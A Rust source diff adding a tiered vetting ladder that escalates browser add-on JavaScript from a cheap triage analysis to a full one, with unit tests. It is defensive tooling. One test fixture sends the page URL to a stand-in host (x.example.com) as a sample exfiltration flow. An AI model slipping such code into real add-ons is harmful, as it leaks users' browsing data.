@@ -1,0 +1,185 @@
+//! The tiered vetting ladder, typed: run the pipeline rung by rung,
+//! starting cheap and escalating only the suspicious.
+//!
+//! The triage rung (`tier0`: context-insensitive, triage fast path,
+//! small step budget) resolves the benign majority of a vetting queue;
+//! anything it cannot *prove* benign climbs to the next rung. The
+//! escalation predicate is deliberately conservative:
+//!
+//! * a signature with **any** flow entry escalates — a cheap rung's
+//!   flows may be imprecision artifacts, so only a stronger rung may
+//!   pronounce on them (the final rung's verdict is the verdict);
+//! * **budget exhaustion** (step budget or deadline) escalates — the
+//!   rung ran out of gas, it proved nothing;
+//! * parse failures and the interpreter's own safety valve are
+//!   **terminal** at any rung — a bigger budget would hit the same
+//!   wall, exactly as [`finish_service`](crate::service_engine) maps
+//!   them to terminal errors.
+//!
+//! Flow-free verdicts never escalate, and the ladder never *downgrades*:
+//! a flow-free tier-0 signature is byte-identical to the full rung's by
+//! the triage-soundness argument in [`jssig::flows_impossible`], so
+//! resolving early returns the same bytes the expensive rung would.
+//! The daemon-facing equivalent (operating on [`sigserve::VetOutcome`])
+//! is [`sigserve::run_ladder`]; this module is the typed CLI/library
+//! entry point with the same escalation semantics.
+
+use crate::{Error, Pipeline, Report};
+use jsanalysis::{BudgetKind, LadderSpec};
+
+/// Why the ladder left a rung.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum EscalationReason {
+    /// The rung inferred at least one flow entry: suspicious, so a
+    /// stronger rung must confirm or refute it.
+    Flows,
+    /// The rung's step budget or deadline was exhausted before the
+    /// fixpoint finished.
+    Budget,
+}
+
+impl EscalationReason {
+    /// The wire/log spelling (`flows` / `budget`), matching the
+    /// `job_escalated` records [`sigserve::run_ladder`] emits.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            EscalationReason::Flows => "flows",
+            EscalationReason::Budget => "budget",
+        }
+    }
+}
+
+/// One escalation the ladder took.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Escalation {
+    /// Name of the rung left.
+    pub from: String,
+    /// Name of the rung entered.
+    pub to: String,
+    /// Why.
+    pub reason: EscalationReason,
+}
+
+/// The terminal result of a ladder run: the resolving rung's pipeline
+/// result plus the escalation trail that led there.
+pub struct LadderOutcome {
+    /// The terminal rung's result. An `Err` here is final: either the
+    /// last rung's budget was exhausted too, or the failure (parse,
+    /// safety valve) was terminal at whatever rung hit it.
+    pub result: Result<Report, Error>,
+    /// Name of the rung that produced the terminal result.
+    pub tier: String,
+    /// Index of that rung in the [`LadderSpec`].
+    pub rung: usize,
+    /// Every escalation taken on the way, in order.
+    pub escalations: Vec<Escalation>,
+}
+
+impl LadderOutcome {
+    /// True when the first rung resolved the addon (no escalations).
+    pub fn resolved_at_tier0(&self) -> bool {
+        self.rung == 0
+    }
+}
+
+/// Runs `source` up the ladder. Each rung runs the full pipeline under
+/// its own [`AnalysisConfig`](jsanalysis::AnalysisConfig); the first
+/// rung whose outcome is terminal under the escalation predicate above
+/// ends the climb. The final rung is always terminal.
+pub fn vet_ladder(source: &str, ladder: &LadderSpec) -> LadderOutcome {
+    let mut escalations = Vec::new();
+    for (i, rung) in ladder.rungs.iter().enumerate() {
+        let last = i + 1 == ladder.rungs.len();
+        let result = Pipeline::new().config(rung.config.clone()).run(source);
+        let reason = match &result {
+            Ok(report) if !report.signature.flows.is_empty() => Some(EscalationReason::Flows),
+            Err(Error::Budget {
+                kind: BudgetKind::Steps | BudgetKind::Deadline,
+                ..
+            }) => Some(EscalationReason::Budget),
+            _ => None,
+        };
+        match reason {
+            Some(reason) if !last => escalations.push(Escalation {
+                from: rung.name.clone(),
+                to: ladder.rungs[i + 1].name.clone(),
+                reason,
+            }),
+            _ => {
+                return LadderOutcome {
+                    result,
+                    tier: rung.name.clone(),
+                    rung: i,
+                    escalations,
+                }
+            }
+        }
+    }
+    unreachable!("the final rung is always terminal")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use jsanalysis::{AnalysisConfig, LadderRung};
+
+    #[test]
+    fn benign_addon_resolves_at_tier0() {
+        let out = vet_ladder("var x = 1 + 2;", &LadderSpec::standard());
+        assert!(out.resolved_at_tier0(), "flow-free addon must not escalate");
+        assert_eq!(out.tier, "tier0");
+        assert!(out.escalations.is_empty());
+        assert!(out.result.unwrap().signature.flows.is_empty());
+    }
+
+    #[test]
+    fn flowful_addon_escalates_to_full() {
+        let out = vet_ladder(
+            "var u = content.location.href;\n\
+             var r = XHRWrapper(\"http://x.example.com\");\n\
+             r.send(u);",
+            &LadderSpec::standard(),
+        );
+        assert_eq!(out.tier, "full");
+        assert_eq!(out.rung, 1);
+        assert_eq!(
+            out.escalations,
+            [Escalation {
+                from: "tier0".to_owned(),
+                to: "full".to_owned(),
+                reason: EscalationReason::Flows,
+            }]
+        );
+        assert!(!out.result.unwrap().signature.flows.is_empty());
+    }
+
+    #[test]
+    fn tier0_budget_exhaustion_escalates_not_errors() {
+        // A one-step first rung exhausts immediately; the full rung
+        // still delivers the verdict.
+        let ladder = LadderSpec {
+            rungs: vec![
+                LadderRung {
+                    name: "starved".to_owned(),
+                    config: AnalysisConfig::tier0().with_step_budget(1),
+                },
+                LadderRung {
+                    name: "full".to_owned(),
+                    config: AnalysisConfig::tier_full(),
+                },
+            ],
+        };
+        let out = vet_ladder("var x = 1; var y = x;", &ladder);
+        assert_eq!(out.tier, "full");
+        assert_eq!(out.escalations.len(), 1);
+        assert_eq!(out.escalations[0].reason, EscalationReason::Budget);
+        assert!(out.result.is_ok(), "budget trips at tier 0 must not surface");
+    }
+
+    #[test]
+    fn parse_errors_are_terminal_at_tier0() {
+        let out = vet_ladder("var = ;", &LadderSpec::standard());
+        assert_eq!(out.tier, "tier0", "parse failure must not climb the ladder");
+        assert!(matches!(out.result, Err(Error::Parse(_))));
+    }
+}
